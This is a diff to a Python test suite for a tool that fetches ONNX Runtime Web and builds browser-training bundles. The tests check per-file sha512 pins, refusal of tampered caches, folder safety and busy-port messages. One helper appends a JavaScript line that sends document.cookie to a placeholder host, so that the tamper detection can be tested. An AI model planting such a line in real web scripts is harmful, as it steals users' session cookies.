@@ -9,8 +9,11 @@ import hashlib
 import io
 import json
 import re
+import shlex
 import shutil
+import socket
 import struct
+import sys
 import tarfile
 import urllib.request
 
@@ -35,6 +38,36 @@ def _integrity(payload: bytes) -> str:
     return "sha512-" + base64.b64encode(hashlib.sha512(payload).digest()).decode()
 
 
+def pin(monkeypatch, files: dict) -> None:
+    """Pin stand-in runtime files as FILE_INTEGRITY pins the real release's."""
+    monkeypatch.setattr(web_runtime, "FILE_INTEGRITY", {name: _integrity(content) for name, content in files.items()})
+
+
+@pytest.fixture
+def cached_runtime(tmp_path, monkeypatch):
+    """A runtime folder holding the release's files as pinned: the real ones when this machine fetched them,
+    otherwise stand-ins pinned in their place (the check is the same)."""
+    folder = tmp_path / "cache" / web_runtime.VERSION
+    folder.mkdir(parents=True)
+    real = web_runtime.folder()
+    if not web_runtime.missing(real) and not web_runtime.changed(real):
+        for name in web_runtime.FILES:
+            shutil.copyfile(real / name, folder / name)
+    else:
+        files = {name: b"stand-in " + name.encode() for name in web_runtime.FILES}
+        pin(monkeypatch, files)
+        for name, content in files.items():
+            (folder / name).write_bytes(content)
+    monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(folder))
+    return folder
+
+
+def tamper(folder):
+    """What the report found: a line appended to the cached API script."""
+    with open(folder / web_runtime.API_SCRIPT, "a") as script:
+        script.write("\nfetch('https://example.invalid/?' + document.cookie);\n")
+
+
 def test_the_runtime_is_fetched_whole_and_checked_against_the_registry_integrity(tmp_path, monkeypatch):
     payload = _tarball({name: name.encode() * 3 for name in web_runtime.FILES})
     (tmp_path / "ort.tgz").write_bytes(payload)
@@ -42,6 +75,7 @@ def test_the_runtime_is_fetched_whole_and_checked_against_the_registry_integrity
     with pytest.raises(web_runtime.WebRuntimeMissing, match=r"ortnb setup --web"):
         web_runtime.located()
     monkeypatch.setattr(web_runtime, "INTEGRITY", _integrity(payload))
+    pin(monkeypatch, {name: name.encode() * 3 for name in web_runtime.FILES})
     where = web_runtime.fetch(url=(tmp_path / "ort.tgz").as_uri())
     assert sorted(p.name for p in where.iterdir()) == sorted(web_runtime.FILES)
     assert (where / web_runtime.WASM).read_bytes() == web_runtime.WASM.encode() * 3
@@ -62,6 +96,67 @@ def test_the_pinned_integrity_is_the_registry_format():
     algorithm, _, digest = web_runtime.INTEGRITY.partition("-")
     assert algorithm == "sha512" and len(base64.b64decode(digest)) == 64
     assert web_runtime.TARBALL.endswith(f"onnxruntime-web-{web_runtime.VERSION}.tgz")
+    assert sorted(web_runtime.FILE_INTEGRITY) == sorted(web_runtime.FILES)
+    for pinned in web_runtime.FILE_INTEGRITY.values():
+        algorithm, _, digest = pinned.partition("-")
+        assert algorithm == "sha512" and len(base64.b64decode(digest)) == 64
+
+
+def test_a_fetch_whose_files_are_not_the_pinned_ones_is_refused(tmp_path, monkeypatch):
+    payload = _tarball({name: b"x" for name in web_runtime.FILES})
+    (tmp_path / "ort.tgz").write_bytes(payload)
+    monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(tmp_path / "cache" / "1.19.2"))
+    monkeypatch.setattr(web_runtime, "INTEGRITY", _integrity(payload))
+    with pytest.raises(ValueError, match=r"differ from web_runtime.FILE_INTEGRITY: the pins are wrong"):
+        web_runtime.fetch(url=(tmp_path / "ort.tgz").as_uri())
+    assert web_runtime.missing() == list(web_runtime.FILES)
+
+
+def test_a_cached_file_changed_since_the_fetch_is_refused_by_name_where_it_is_used(cached_runtime, monkeypatch):
+    from ortnb import info
+
+    assert web_runtime.located() == cached_runtime and web_runtime.changed() == []
+    tamper(cached_runtime)
+    assert web_runtime.changed() == [web_runtime.API_SCRIPT]
+    expected = (f"ort.training.wasm.min.js in {cached_runtime} differs from onnxruntime-web@1.19.2's (sha512 not "
+                "the pinned one: edited or damaged since it was fetched), and a page would run it. Fetch the files "
+                "again with `ortnb setup --web --force`")
+    with pytest.raises(web_runtime.WebRuntimeChanged) as refused:
+        web_runtime.located()
+    assert str(refused.value) == expected
+    with pytest.raises(web_runtime.WebRuntimeChanged, match="ort.training.wasm.min.js"):
+        web_runtime.read_checked(cached_runtime, web_runtime.API_SCRIPT)
+    found = info.facts()
+    assert found["onnxruntime_web_changed"] == [web_runtime.API_SCRIPT]
+    assert [line for line in info.lines(found) if line.startswith("onnxruntime web")] == [
+        f"onnxruntime web       refused: {expected}"]
+
+
+def test_setup_fetches_a_changed_cache_again_and_says_why(cached_runtime, tmp_path, monkeypatch, capsys):
+    from ortnb import cli
+
+    genuine = {name: (cached_runtime / name).read_bytes() for name in web_runtime.FILES}
+    payload = _tarball(genuine)
+    (tmp_path / "ort.tgz").write_bytes(payload)
+    monkeypatch.setattr(web_runtime, "INTEGRITY", _integrity(payload))
+    fetch = web_runtime.fetch
+    monkeypatch.setattr(web_runtime, "fetch", lambda force=False: fetch(force, url=(tmp_path / "ort.tgz").as_uri()))
+    tamper(cached_runtime)
+    assert cli.main(["setup", "--web"]) == 0
+    said = capsys.readouterr().out
+    assert f"ortnb setup: ort.training.wasm.min.js in {cached_runtime} differs from onnxruntime-web@1.19.2's" in said
+    assert "fetching the files again" in said
+    assert (cached_runtime / web_runtime.API_SCRIPT).read_bytes() == genuine[web_runtime.API_SCRIPT]
+    assert web_runtime.located() == cached_runtime
+    assert cli.main(["setup", "--web"]) == 0
+    assert "differs" not in capsys.readouterr().out
+
+
+def test_the_fetched_release_is_the_pinned_one():
+    real = web_runtime.folder()
+    if web_runtime.missing(real):
+        pytest.skip(f"ONNX Runtime Web is not fetched here (`{web_runtime.FETCH_COMMAND}`)")
+    assert web_runtime.changed(real) == []
 
 
 def test_the_schedule_is_the_linear_decay_of_the_python_loop():
@@ -192,8 +287,10 @@ def runtime(tmp_path, monkeypatch):
     """A stand-in runtime (the page is not loaded here): three small files where the cache would be."""
     folder = tmp_path / "runtime"
     folder.mkdir()
-    for name in web_runtime.FILES:
-        (folder / name).write_bytes(b"stand-in " + name.encode())
+    files = {name: b"stand-in " + name.encode() for name in web_runtime.FILES}
+    for name, content in files.items():
+        (folder / name).write_bytes(content)
+    pin(monkeypatch, files)
     monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(folder))
     return folder
 
@@ -278,7 +375,7 @@ def test_bad_artifacts_and_rows_are_named_before_a_bundle_is_written(artifacts, 
         web_bundle(artifacts, artifacts / "web")
     (tmp_path / "busy").mkdir()
     (tmp_path / "busy" / "notes.txt").write_text("mine")
-    with pytest.raises(ConfigError, match="already holds files that are not a web bundle"):
+    with pytest.raises(ConfigError, match=r"busy' holds notes.txt, and no bundle.json ortnb wrote"):
         web_bundle(artifacts, tmp_path / "busy")
     assert (tmp_path / "busy" / "notes.txt").read_text() == "mine"
     monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(tmp_path / "no-runtime"))
@@ -349,7 +446,17 @@ def test_ortnb_edge_web_writes_a_bundle_and_refuses_bad_rows_with_exit_2(artifac
     assert cli.main(["edge", "web", str(artifacts), str(tmp_path / "web"), "--data", str(data), "--steps", "3",
                      "--batch-size", "4", "--lr", "2e-3"]) == 0
     said = capsys.readouterr().out
-    assert "24 rows to train (3 steps of 4, learning rate 0.002 decayed linearly to 0), 0 held out" in said
+    folder = tmp_path / "web"
+    assert said.startswith(f"ortnb edge web: web bundle in {folder} (")
+    assert ("The page trains the model in the browser tab with ONNX Runtime Web: it trains on 24 bundled rows; each "
+            "press of Train takes 3 steps of 4 rows, at a learning rate from 0.002 down to 0. The rows and the trained "
+            "weights stay in the tab: nothing is sent anywhere, and Download weights saves them to this computer\n"
+            "Serve it:\n"
+            f"  {shlex.quote(sys.executable)} -m http.server 8000 --bind 127.0.0.1 --directory {shlex.quote(str(folder))}"
+            "\nthen open http://127.0.0.1:8000/index.html (Ctrl-C stops the server)") in said
+    page = (folder / "app.js").read_text()
+    assert "steps a round" not in page and '["each Train", `${t.steps} steps, each learning from ${t.batch_size} rows`]' \
+        in page
     written = json.loads((tmp_path / "web" / "bundle.json").read_text())
     assert written["training"]["steps"] == 3 and written["data"] == "data.json" and written["eval_data"] is None
     assert sorted(p.name for p in (tmp_path / "web" / "ort").iterdir()) == sorted(web_runtime.FILES)
@@ -358,3 +465,87 @@ def test_ortnb_edge_web_writes_a_bundle_and_refuses_bad_rows_with_exit_2(artifac
     assert cli.main(["edge", "web", str(artifacts), str(tmp_path / "web2"), "--data", str(bad)]) == 2
     assert "data: bad.csv line 3 has label 'maybe'; the model's labels are LABEL_0, LABEL_1" in capsys.readouterr().err
     assert not (tmp_path / "web2").exists()
+
+
+@pytest.mark.slow
+@pytest.mark.ort
+def test_ortnb_edge_web_never_empties_a_folder_it_did_not_write(artifacts, runtime, tmp_path, capsys):
+    """The report: OUT holding another tool's bundle.json was deleted whole, exit 0, without a word."""
+    from ortnb import cli
+
+    out = tmp_path / "site"
+    out.mkdir()
+    (out / "bundle.json").write_text('{"entry": "src/main.ts"}')
+    (out / "main.js").write_text("mine")
+    assert cli.main(["edge", "web", str(artifacts), str(out)]) == 2
+    assert (f"ortnb edge web: out_dir '{out}' holds bundle.json, main.js, and no bundle.json ortnb wrote"
+            in capsys.readouterr().err)
+    assert (out / "bundle.json").read_text() == '{"entry": "src/main.ts"}' and (out / "main.js").read_text() == "mine"
+
+    web = tmp_path / "web"
+    assert cli.main(["edge", "web", str(artifacts), str(web)]) == 0
+    (web / "notes.txt").write_text("what I tried")
+    (web / "artifacts" / "labels-explained.md").write_text("mine too")
+    assert cli.main(["edge", "web", str(artifacts), str(web), "--steps", "3"]) == 0
+    assert (web / "notes.txt").read_text() == "what I tried"
+    assert (web / "artifacts" / "labels-explained.md").read_text() == "mine too"
+    description = json.loads((web / "bundle.json").read_text())
+    assert description["training"]["steps"] == 3
+    assert "notes.txt" not in description["written"] and "index.html" in description["written"]
+
+
+@pytest.mark.slow
+@pytest.mark.ort
+def test_ortnb_edge_web_refuses_a_tampered_runtime_and_writes_nothing(artifacts, cached_runtime, tmp_path, capsys):
+    from ortnb import cli
+
+    tamper(cached_runtime)
+    assert cli.main(["edge", "web", str(artifacts), str(tmp_path / "web")]) == 2
+    said = capsys.readouterr().err
+    assert said.startswith(f"ortnb edge web: ort.training.wasm.min.js in {cached_runtime} differs from "
+                           "onnxruntime-web@1.19.2's")
+    assert "`ortnb setup --web --force`" in said and "Traceback" not in said
+    assert not (tmp_path / "web").exists()
+
+
+@pytest.mark.slow
+@pytest.mark.ort
+def test_the_bundle_carries_the_pinned_integrity_and_the_checked_bytes(artifacts, cached_runtime, tmp_path):
+    from ortnb.edge import web_bundle
+
+    bundle = web_bundle(artifacts, tmp_path / "web")
+    runtime = json.loads((bundle.folder / "bundle.json").read_text())["runtime"]
+    assert runtime["integrity"] == web_runtime.FILE_INTEGRITY
+    assert (runtime["script"], runtime["loader"], runtime["wasm"]) == web_runtime.FILES
+    for name in web_runtime.FILES:
+        assert _integrity((bundle.folder / "ort" / name).read_bytes()) == web_runtime.FILE_INTEGRITY[name]
+
+
+def test_a_busy_port_is_one_line_naming_it_and_the_way_out(tmp_path):
+    from ortnb.edge.web_server import PortUnavailable, serve
+
+    (tmp_path / "index.html").write_text("<p>hi</p>")
+    with socket.socket() as holder:
+        holder.bind(("127.0.0.1", 0))
+        holder.listen()
+        port = holder.getsockname()[1]
+        with pytest.raises(PortUnavailable) as refused:
+            serve(tmp_path, port=port)
+    assert str(refused.value) == (f"port {port} on 127.0.0.1 is in use (another server holds it): serve on another "
+                                  "port (--port 8001, or port=8001 in Python; 0 picks a free one), or stop what holds it")
+
+
+@pytest.mark.slow
+@pytest.mark.ort
+def test_ortnb_edge_web_serve_on_a_busy_port_says_so_without_a_traceback(artifacts, runtime, tmp_path, capsys):
+    from ortnb import cli
+
+    with socket.socket() as holder:
+        holder.bind(("127.0.0.1", 0))
+        holder.listen()
+        port = holder.getsockname()[1]
+        assert cli.main(["edge", "web", str(artifacts), str(tmp_path / "web"), "--serve", "--port", str(port)]) == 2
+    said = capsys.readouterr().err
+    assert said == (f"ortnb edge web: port {port} on 127.0.0.1 is in use (another server holds it): serve on another "
+                    "port (--port 8001, or port=8001 in Python; 0 picks a free one), or stop what holds it; the bundle "
+                    f"is written, in {tmp_path / 'web'}\n")
